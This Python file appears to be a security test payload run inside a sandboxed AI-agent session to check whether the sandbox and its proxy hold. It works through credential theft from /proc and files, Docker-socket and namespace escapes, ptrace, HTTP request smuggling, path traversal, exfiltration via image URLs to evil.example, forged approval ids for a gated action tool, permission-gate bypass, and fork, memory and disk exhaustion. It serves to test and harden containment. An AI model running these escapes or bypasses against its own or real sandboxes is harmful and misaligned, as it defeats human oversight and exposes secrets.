"""Run inside a session in the place of the CLI: tries everything that a hostile session could try.

Standard library only. Reads targets.json from its own folder and prints one JSON line per way:
{"name", "reached", "detail"}. `reached` is true only where the wall did not hold. Nothing of the kernel is changed where
it can be asked instead, and everything that could grow is bounded in seconds and bytes.
"""

# pyright: basic
# A payload, not a part of the product: short, blunt, and free to ask the kernel for anything.
# ruff: noqa: ANN002, ANN003, C416, F401, F541, N818, PLW1510, PTH100, PTH102, PTH104, PTH108, PTH110, PTH115, PTH118, PTH120, PTH123, PTH207, PTH208, PTH211, RET503, SIM105, SIM115, W505

import base64
import ctypes
import glob
import json
import os
import signal
import socket
import stat
import struct
import subprocess
import sys
import time

HERE = os.path.dirname(os.path.abspath(__file__))
T = json.load(open(os.path.join(HERE, "targets.json")))
SECRETS = [s.encode() for s in T["secrets"]]
WAYS = []
libc = ctypes.CDLL(None, use_errno=True)


def way(name):
    def note(f):
        WAYS.append((name, f))
        return f

    return note


def secret_in(data):
    """Which secret the bytes hold, in any of its usual spellings."""
    for s in SECRETS:
        for spelling in (s, base64.b64encode(s), s[::-1], s.hex().encode()):
            if spelling in data:
                return s[:12].decode() + "..."
    return ""


def slurp(path, most=1 << 20):
    fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    try:
        return os.read(fd, most)
    finally:
        os.close(fd)


def search(paths):
    seen = 0
    for p in paths:
        try:
            data = slurp(p)
        except OSError:
            continue
        seen += 1
        if hit := secret_in(data):
            return True, f"{hit} in {p}"
    return False, f"{seen} files read"


def raw(data, wait=4.0, port=9000):
    """What the door answers to these very bytes."""
    with socket.create_connection(("127.0.0.1", port), wait) as s:
        s.settimeout(wait)
        try:
            s.sendall(data)  # no half-close: the door takes it for a client that went away
        except OSError:
            pass
        out = b""
        try:
            while len(out) < 1 << 20 and (part := s.recv(65536)):
                out += part
        except OSError:
            pass
        return out


def http(method, path, body: object = b"", headers=(), host="127.0.0.1:9000", wait=4.0):
    body = body if isinstance(body, bytes) else json.dumps(body).encode()
    lines = [f"{method} {path} HTTP/1.1", f"Host: {host}", f"Content-Length: {len(body)}", "Connection: close"]
    lines += [f"{k}: {v}" for k, v in headers]
    return raw("\r\n".join(lines).encode() + b"\r\n\r\n" + body, wait)


def status(answer):
    head = answer.split(b"\r\n", 1)[0].split(b" ")
    return int(head[1]) if len(head) > 1 and head[1].isdigit() else 0


def closed(answer, good=(0, 400, 403, 404, 405, 413, 417, 501)):
    """A door that says no, and no secret in what it says."""
    hit = secret_in(answer)
    return bool(hit) or status(answer) not in good, hit or f"status {status(answer)}"


def message(**more):
    return {"model": T["model"], "max_tokens": 9, "messages": [{"role": "user", "content": "hi"}], **more}


KEYED = (("x-api-key", "placeholder"), ("Content-Type", "application/json"))


def model(body, path="/model/v1/messages", headers=KEYED):
    return http("POST", path, body, headers)


def mcp(params, rpc: object = 1, method="tools/call"):
    return http("POST", "/mcp", {"jsonrpc": "2.0", "id": rpc, "method": method, "params": params})


def act(kind="restart", tool_use_id="toolu_x", **more):
    arguments = {"kind": kind, "target": "local/web", "reason": "x", **more}
    return {"name": "act", "arguments": arguments, "_meta": {"claudecode/toolUseId": tool_use_id}}


def acted(answer):
    """An act that was not refused."""
    hit = secret_in(answer) or ("performed" if b"done:" in answer else "")
    return bool(hit), hit or f"status {status(answer)}: {answer[-70:]!r}"


def connects(family, kind, address):
    with socket.socket(family, kind) as s:
        s.settimeout(1.5)
        s.connect(address)
    return True, f"connected to {address}"


# ---------------------------------------------------------------- the key and the files


@way("key in the own environment")
def _():
    return bool(secret_in(repr(dict(os.environ)).encode())), f"{len(os.environ)} names"


@way("key in any process' environment")
def _():
    return search(glob.glob("/proc/[0-9]*/environ"))


@way("key in any process' command line")
def _():
    return search(glob.glob("/proc/[0-9]*/cmdline"))


@way("key in files of the whole visible tree")
def _():
    paths, deadline = [], time.monotonic() + 6
    for top in ("/etc", "/root", "/home", "/run", "/var", "/opt", "/tmp", "/srv", "/mnt", os.path.dirname(HERE)):
        for folder, _, names in os.walk(top):
            paths += [os.path.join(folder, n) for n in names if n != "targets.json"]
            if time.monotonic() > deadline:
                break
    return search(p for p in paths if stat.S_ISREG(os.lstat(p).st_mode))


@way("canary files by their exact paths")
def _():
    return search(T["files"])


@way("canary files through /proc/*/root and cwd")
def _():
    return search(r + f for r in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd") for f in T["files"])


@way("canary files through a link in the own folder")
def _():
    links = []
    for i, f in enumerate(T["files"]):
        links.append(f"{HERE}/link{i}")
        if not os.path.lexists(links[-1]):
            os.symlink(f, links[-1])
    return search(links)


@way("canary files through a hard link")
def _():
    os.link(T["files"][0], f"{HERE}/hard")
    return search([f"{HERE}/hard"])


@way("inherited descriptors")
def _():
    bad = []
    for n in os.listdir("/proc/self/fd"):
        try:
            where = os.readlink(f"/proc/self/fd/{n}")
        except OSError:
            continue
        if int(n) > 2 and not where.startswith(("/proc", HERE)):
            bad.append(where)
    return bool(bad), str(bad)


@way("out through an inherited descriptor's folder")
def _():
    return search(f"/proc/self/fd/{n}/../{f}" for n in (0, 1, 2) for f in ("launch.json", "../../session.json"))


@way("another session's folder")
def _():
    return (
        search(glob.glob(T["sessions"] + "/*/*"))
        if os.listdir(T["sessions"]) != [T["own"]]
        else (False, "only the own")
    )


@way("own state files of the host (session.json, lease, host marks)")
def _():
    root = os.path.dirname(HERE)
    opened = []
    for name in ("session.json", "lease", "on-host-1", "on-host-2", "../x"):
        try:
            os.close(os.open(f"{root}/{name}", os.O_WRONLY | os.O_CREAT))
            opened.append(name)
        except OSError:
            pass
    if opened and not os.path.ismount(root) and not T["container"]:
        return search([])[0], f"made {opened} in the sandbox's own scratch, gone with it"
    return bool(opened), str(opened)


# ---------------------------------------------------------------- other addresses


def tcp(name, host, port):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    WAYS.append((f"TCP to {name}", lambda: connects(family, socket.SOCK_STREAM, (host, port))))


for each in T["tcp"]:
    tcp(*each)


@way("DNS over UDP")
def _():
    got = []
    for server in ("127.0.0.53", "1.1.1.1", "8.8.8.8", T["gateway_ip"]):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(0.7)
            try:
                s.sendto(b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x07example\x03org\0\0\x01\0\x01", (server, 53))
                s.recv(512)
                got.append(server)
            except OSError:
                continue
    return bool(got), str(got)


@way("a name by the resolver")
def _():
    return True, str(socket.getaddrinfo("example.org", 80))


@way("multicast and broadcast")
def _():
    sent = []
    for address in ("224.0.0.251", "255.255.255.255"):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            try:
                s.sendto(b"x", (address, 5353))
                sent.append(address)
            except OSError:
                continue
    return bool(sent), str(sent)


@way("the host's abstract Unix socket")
def _():
    return connects(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + T["abstract"])


@way("the gateway's admin socket")
def _():
    return connects(socket.AF_UNIX, socket.SOCK_STREAM, T["admin"])


@way("another session's door")
def _():
    folder, name = os.path.split(T["other_door"])
    fd = os.open(folder, os.O_PATH)  # the whole path may be too long for a socket's name
    return connects(socket.AF_UNIX, socket.SOCK_STREAM, f"/proc/self/fd/{fd}/{name}")


@way("another machine's token, shown to the own door")
def _():
    shown = f"Proxy-Authorization: Bearer {T['token']}\r\n\r\n"
    answers = [raw(f"CONNECT {where} HTTP/1.1\r\n{shown}".encode()) for where in ("door", "door:80", "admin:80")]
    answers.append(http("GET", "/doors", headers=[tuple(shown.strip().split(": ", 1))]))
    return any(closed(a)[0] for a in answers), str([status(a) for a in answers])


@way("another session's token, in its folder")
def _():
    return search(
        [*glob.glob(T["sessions"] + "/*/token.json"), T["sessions"] + f"/{T['token'].split('.')[0]}/token.json"]
    )


@way("the Docker socket")
def _():
    for path in (
        "/var/run/docker.sock",
        "/run/docker.sock",
        "/run/containerd/containerd.sock",
        "/host/var/run/docker.sock",
    ):
        try:
            return connects(socket.AF_UNIX, socket.SOCK_STREAM, path)
        except OSError:
            continue
    return False, "none there"


@way("a raw socket")
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP):
        return True, "opened"


@way("a packet socket")
def _():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3):
        return True, "opened"


@way("netlink: another interface up")
def _():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
        s.settimeout(1)
        body = struct.pack("=BBHiII", 0, 0, 0, 0, 0, 0) + struct.pack("=HH", 7, 3) + b"dm0"
        s.send(struct.pack("=IHHII", 16 + len(body), 16, 0x0605, 1, 0) + body)
        answer = s.recv(4096)
        code = struct.unpack_from("=i", answer, 16)[0]
        return code == 0, os.strerror(-code) if code else "made"


@way("vsock to the hypervisor")
def _():
    return connects(socket.AF_VSOCK, socket.SOCK_STREAM, (2, 22))


# ---------------------------------------------------------------- the kernel


def shell(name, script, bad=lambda text: bool(text.strip())):
    def run():
        text = subprocess.run(["sh", "-c", script], capture_output=True, text=True, timeout=6).stdout
        return bad(text), text.strip()[:100]

    WAYS.append((name, run))


def call(name, f):
    def run():
        result = f()
        number = ctypes.get_errno()
        return result >= 0, os.strerror(number) if result < 0 else "allowed"

    WAYS.append((name, run))


W = "for f in {}; do test -w $f && echo $f; done; true"
shell("/proc/sys writable", W.format("$(find /proc/sys -type f 2>/dev/null | head -400)"))
shell("/sys writable", W.format("$(find /sys -type f 2>/dev/null | head -400)"))
shell("cgroup files writable", W.format("$(find /sys/fs/cgroup -maxdepth 2 2>/dev/null | head -200)"))
shell("sysrq, kcore, kmsg, mem", W.format("/proc/sysrq-trigger /proc/kcore /dev/kmsg /dev/mem /dev/port"))
shell(
    "block and other device nodes",
    "find /dev -type b 2>/dev/null; ls /dev/kvm /dev/fuse /dev/net/tun /dev/loop* 2>/dev/null; true",
)
shell(
    "setuid programs that work",
    "grep -q 'NoNewPrivs:.1' /proc/self/status || find / -xdev -perm /6000 -type f 2>/dev/null; true",
)
shell("capabilities", "grep -E '^Cap(Eff|Prm|Bnd|Amb)' /proc/self/status | grep -v 0000000000000000; true")
shell("new user namespace", "unshare -Ur true 2>/dev/null && echo made; true")
shell("new mount namespace", "unshare -m true 2>/dev/null && echo made; true")
shell("other namespaces by nsenter", "nsenter -t 1 -m -n true 2>/dev/null && ls /root 2>/dev/null; true")
shell(
    "programs of the system writable",
    "for d in /usr /usr/bin /usr/local/bin /etc /opt/tiercel /lib; do touch $d/.probe 2>/dev/null && echo $d; done; true",
)
shell(
    "sudo, su, pkexec",
    "for c in 'sudo -n true' 'su -c true' 'pkexec true'; do $c </dev/null >/dev/null 2>&1 && echo $c; done; true",
)
shell(
    "processes of others",
    "cat /proc/[0-9]*/cmdline | tr '\\0' ' ' | grep -E '[d]ockerd|[p]ostgres|[t]emporal server|[p]ython -m gateway'; true",
)
call("mount", lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))
call("pivot_root", lambda: libc.syscall(155, b"/tmp", b"/tmp"))
call("mknod of a block device", lambda: libc.mknod(b"/tmp/sda", 0o60600, os.makedev(8, 0)))
call("chroot", lambda: libc.chroot(b"/tmp"))
call("ptrace of processes outside", lambda: max(libc.ptrace(16, pid, 0, 0) for pid in T["host_pids"] if pid > 1))
call("bpf", lambda: libc.syscall(321, 0, 0, 0))
call("kernel module", lambda: libc.syscall(175, b"", 0, b""))
call("set the clock", lambda: libc.syscall(227, 0, 0))
call(
    "open_by_handle_at",
    lambda: libc.syscall(304, -100, ctypes.create_string_buffer(b"\x08\0\0\0\x01\0\0\0\x02\0\0\0\0\0\0\0"), 0),
)


@way("keys of the host's keyring")
def _():
    buffer = ctypes.create_string_buffer(4096)
    key = libc.syscall(250, 10, b"user", T["keyring"].encode(), 0, 0, 0)  # KEYCTL_SEARCH in the session keyring...
    key = libc.syscall(249, b"user", T["keyring"].encode(), None, 0) if key < 0 else key  # request_key
    if key < 0:
        return False, os.strerror(ctypes.get_errno())
    n = libc.syscall(250, 11, key, buffer, 4096, 0)
    return bool(secret_in(buffer.raw[: max(n, 0)])), "found"


@way("signals to processes that are not ours")
def _():
    pids = [p for p in T["host_pids"]]
    hit = []
    for p in pids:
        try:
            with open(f"/proc/{p}/cmdline", "rb") as f:
                if b"attack.py" in f.read():
                    continue
            os.kill(p, 0)
            hit.append(p)
        except OSError:
            continue
    return T["marker"].encode() in b"".join(slurp(f"/proc/{p}/cmdline") for p in hit), str(hit)


# ---------------------------------------------------------------- the door: model


@way("upstream that echoes the key in headers, cookies and redirects")
def _():
    got = [
        model(message(stream=s), headers=(*KEYED, ("x-want", w))) for s in (True, False) for w in ("echo", "redirect")
    ]
    hit = secret_in(b"".join(got))
    return bool(hit), hit or f"status {[status(g) for g in got]}"


def smuggle(name, data, **good):
    WAYS.append((f"door: {name}", lambda: closed(raw(data() if callable(data) else data), **good)))


def asking(name, method, path, host="127.0.0.1:9000", headers=KEYED):
    WAYS.append((f"door: {name}", lambda: closed(http(method, path, message(), headers, host))))


OTHER = f"http://127.0.0.1:{T['listener']}"
asking("absolute address of another host", "POST", f"{OTHER}/v1/messages")
asking(
    "absolute address that hides another host",
    "POST",
    f"http://127.0.0.1:9000@127.0.0.1:{T['listener']}/model/v1/messages/x",
)
asking("path traversal", "POST", "/model/../../v1/organizations")
asking("escaped path traversal", "POST", "/model/v1/messages/..%2f..%2fv1%2ffiles")
asking("double-escaped path traversal", "POST", "/model/v1/messages/%252e%252e/files")
asking("other routes of the API: files", "GET", "/model/v1/files")
asking("other routes of the API: batches", "POST", "/model/v1/messages/batches")
asking("other routes of the API: keys of the organization", "GET", "/model/v1/organizations/api_keys")
asking("admin routes on the own door", "PUT", f"/doors/{T['other']}")
asking("another session by path", "POST", f"/sessions/{T['other']}/mcp")
asking("DELETE", "DELETE", "/model/v1/messages")
asking("TRACE", "TRACE", "/model/v1/messages")
smuggle("CONNECT to another host", f"CONNECT 127.0.0.1:{T['listener']} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
smuggle(
    "upgrade to a websocket",
    b"GET /model/v1/messages HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: eHh4eHh4eHh4eHh4eHh4eA==\r\nSec-WebSocket-Version: 13\r\n\r\n",
)
smuggle(
    "CL and TE together",
    b"POST /nothing HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /v1/files HTTP/1.1\r\nHost: x\r\n\r\n",
)
smuggle("two lengths", b"POST /nothing HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nContent-Length: 5\r\n\r\nabcde")
smuggle("line feed in a header", b"GET /nothing HTTP/1.1\r\nHost: x\r\nX-A: a\nX-Api-Key: b\r\n\r\n")


@way("door: headers that the upstream must not see")
def _():
    inner = [("Cookie", "evil=1"), ("X-Forwarded-Host", "evil.example"), ("Authorization-X", "evil")]
    answer = http(
        "POST", "/model/v1/messages", message(), (*KEYED, *inner), host="evil.example"
    )  # the test asks the upstream, too
    return b"evil" in answer, f"status {status(answer)}"


@way("door: no placeholder, and two")
def _():
    a = closed(model(message(), headers=()))
    b = closed(model(message(), headers=(*KEYED, ("Authorization", "Bearer x"))))
    return a[0] or b[0], f"{a[1]}, {b[1]}"


def refused(name, body):
    def run():
        answer = model(body() if callable(body) else body)
        return status(answer) != 400, f"status {status(answer)}: {answer[-80:]!r}"

    WAYS.append((f"model: {name}", run))


def twice(first, second):
    text = json.dumps(message())
    return text.replace(json.dumps(T["model"]), f'"{first}", {second}', 1).encode()


refused("a dearer model", message(model=T["dearer"]))
refused("a dearer model behind a second field of that name", twice(T["dearer"], f'"model": "{T["model"]}"'))
refused("a dearer model behind an escaped name", twice(T["dearer"], f'"\\u006dodel": "{T["model"]}"'))
refused("a dearer model in another case", message(Model=T["dearer"]))
refused("UTF-16 body", lambda: json.dumps(message()).encode("utf-16"))
refused("the API fetches a page for us", message(tools=[{"type": "web_fetch_20250910", "name": "web_fetch"}]))
refused("the API searches the web for us", message(tools=[{"type": "web_search_20250305", "name": "web_search"}]))
refused("the API runs code for us", message(tools=[{"type": "code_execution_20250825", "name": "code_execution"}]))
refused(
    "the API calls an MCP server of ours",
    message(mcp_servers=[{"type": "url", "url": "https://evil.example", "name": "x"}]),
)
LEAK = {"type": "url", "url": "https://evil.example/?stolen=1"}
refused(
    "a picture by address carries data out",
    message(messages=[{"role": "user", "content": [{"type": "image", "source": LEAK}]}]),
)
refused(
    "a document by address in a tool's result",
    message(
        messages=[
            {
                "role": "user",
                "content": [
                    {"type": "tool_result", "tool_use_id": "x", "content": [{"type": "document", "source": LEAK}]}
                ],
            }
        ]
    ),
)
refused(
    "a file of the owner's workspace",
    message(
        messages=[{"role": "user", "content": [{"type": "document", "source": {"type": "file", "file_id": "file_1"}}]}]
    ),
)
refused("a container of the owner's workspace", message(container="container_1"))
refused("100,000 deep", b"[" * 100_000)
refused("no JSON", b"\xff\x00")

# ---------------------------------------------------------------- the door: actions (this session is tier 1)


def tries(name, f):
    WAYS.append((f"act: {name}", lambda: acted(f())))


tries("at tier 1", lambda: mcp(act()))
tries("with another call's id", lambda: mcp(act(tool_use_id=T["approved_id"])))
tries("an approved id with other params", lambda: mcp(act(tool_use_id=T["approved_id"], params={"force": True})))
tries("a kind that is not offered", lambda: mcp(act(kind="prune")))
tries("as another session by field", lambda: mcp({**act(), "session": T["other"], "workflow_id": T["workflow"]}))
tries("deep params", lambda: mcp(act(params=json.loads('{"a":' * 500 + "1" + "}" * 500))))
tries("lone surrogates", lambda: mcp(act(tool_use_id="\ud800", params={"\udfff": "\ud800"})))
tries("NUL bytes", lambda: mcp(act(tool_use_id="a\0b", reason="a\0b")))
tries("wrong types", lambda: mcp({"name": "act", "arguments": [1], "_meta": 7}))
tries("id as an object", lambda: mcp(act(), rpc={"a": 1}))
tries("id with a lone surrogate", lambda: mcp(act(), rpc="\ud800"))
tries("batch", lambda: http("POST", "/mcp", [{"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": act()}]))
tries("10 MB", lambda: mcp(act(reason="x" * (10 << 20))))
tries("100,000 deep", lambda: http("POST", "/mcp", b'{"a":' * 100_000))
tries("tool by another spelling", lambda: mcp({**act(), "name": "ACT"}))


def event_id(**more):
    call = {"rpc": 1, "tool_use_id": T["approved_id"], "arguments": act()["arguments"], "token": None, **more}
    return base64.urlsafe_b64encode(json.dumps(call).encode()).decode()


tries("a forged Last-Event-ID", lambda: http("GET", "/mcp", headers=[("Last-Event-ID", event_id())]))
tries(
    "a Last-Event-ID that names another session",
    lambda: http("GET", "/mcp", headers=[("Last-Event-ID", event_id(session=T["other"]))]),
)
tries("a Last-Event-ID of rubbish", lambda: http("GET", "/mcp", headers=[("Last-Event-ID", "====")]))


@way("gate: allows an action at tier 1")
def _():
    call = {
        "tool_name": "mcp__tiercel__act",
        "tool_input": act()["arguments"],
        "tool_use_id": "x",
        "session_id": T["other"],
    }
    answer = http("POST", "/gate", call)
    return b'"allow"' in answer, f"status {status(answer)}"


@way("gate: allows an unknown tool, or nonsense")
def _():
    got = [
        http("POST", "/gate", b)
        for b in ({"tool_name": "Bash", "tool_input": {}, "tool_use_id": "x"}, b"[" * 90_000, b"", [1])
    ]
    return b'"allow"' in b"".join(got), str([status(g) for g in got])


@way("probe of an address outside the inventory")
def _():
    answer = mcp({"name": "probe", "arguments": {"service": f"http://127.0.0.1:{T['listener']}/"}})
    return b"No service" not in answer, f"status {status(answer)}"


@way("telemetry to another address")
def _():
    return closed(http("POST", f"/otel/v1/..%2f..%2f", {}))


@way("90 connections keep the door's next one waiting for ever")
def _():
    held = [socket.create_connection(("127.0.0.1", 9000), 2) for _ in range(90)]
    for s in held:
        s.close()
    time.sleep(0.3)
    answer = http("GET", "/nothing")
    return status(answer) != 404, f"status {status(answer)}"


@way("/tmp without a bound")
def _():
    written, most = 0, 600 << 20
    try:
        with open("/tmp/fill", "wb") as f:
            while written < most:
                written += f.write(bytes(4 << 20))
                if written > 64 << 20 and not T["fill"]:
                    break
        bound = os.statvfs("/tmp")
        return bound.f_blocks * bound.f_frsize > 1 << 30, f"{bound.f_blocks * bound.f_frsize >> 20} MB"
    except OSError as e:
        return False, f"{written >> 20} MB, then {e.strerror}"
    finally:
        if os.path.exists("/tmp/fill"):
            os.unlink("/tmp/fill")


@way("a file without a bound")
def _():
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    with open(f"{HERE}/sparse", "wb") as f:
        try:
            os.truncate(f.fileno(), 1 << 40)
        except OSError as e:
            return False, e.strerror
        finally:
            os.unlink(f"{HERE}/sparse")
    return True, "1 TB"


class Late(Exception):
    pass


def late(*_):
    raise Late("no answer in time")


def plant():
    """Leave in the attempt's folder what would lead the worker astray. The test looks from the host."""
    folder = T["attempt"]
    done = []
    forged = {"runner": "x", "mode": "sandbox", "pid": T["bystander"], "start_time": T["bystander_start"]}
    for name in ("stream.jsonl", "stderr.log", "exit.json", "process.json", "stop.json", "launch.json", "runner.lock"):
        path = f"{folder}/{name}"
        try:
            if os.path.lexists(path):
                os.rename(path, f"{path}.was")
            if name == "process.json":
                json.dump(forged, open(path, "w"))
            elif name == "stop.json":
                os.mkdir(path)
            elif name == "runner.lock":
                os.mkfifo(path)
            else:
                os.symlink(T["files"][0], path)
            done.append(name)
        except OSError as e:
            done.append(f"{name}: {e.strerror}")
    with open(f"{HERE}/told", "w") as f:
        f.write("\n".join(done))
    os.rename(f"{HERE}/told", f"{HERE}/planted")  # whoever sees it sees all of it
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    time.sleep(25)


def main():
    if T["mode"] == "plant":
        return plant()
    if T["mode"] == "fork":
        for _ in range(400):
            try:
                if os.fork() == 0:
                    time.sleep(20)
                    os._exit(0)
            except OSError:
                break
        time.sleep(15)
        return None
    if T["mode"] == "memory":
        held = [bytearray(b"x" * (16 << 20)) for _ in range(40)]
        time.sleep(15)
        return len(held) and None
    signal.signal(signal.SIGALRM, late)
    for name, f in WAYS:
        signal.alarm(10)
        try:
            reached, detail = f()
        except (Late, OSError, subprocess.SubprocessError) as e:
            reached, detail = False, f"{type(e).__name__}: {e}"
        finally:
            signal.alarm(0)
        print(json.dumps({"name": name, "reached": bool(reached), "detail": str(detail)[:160]}), flush=True)
    print(json.dumps({"done": len(WAYS)}), flush=True)


main()
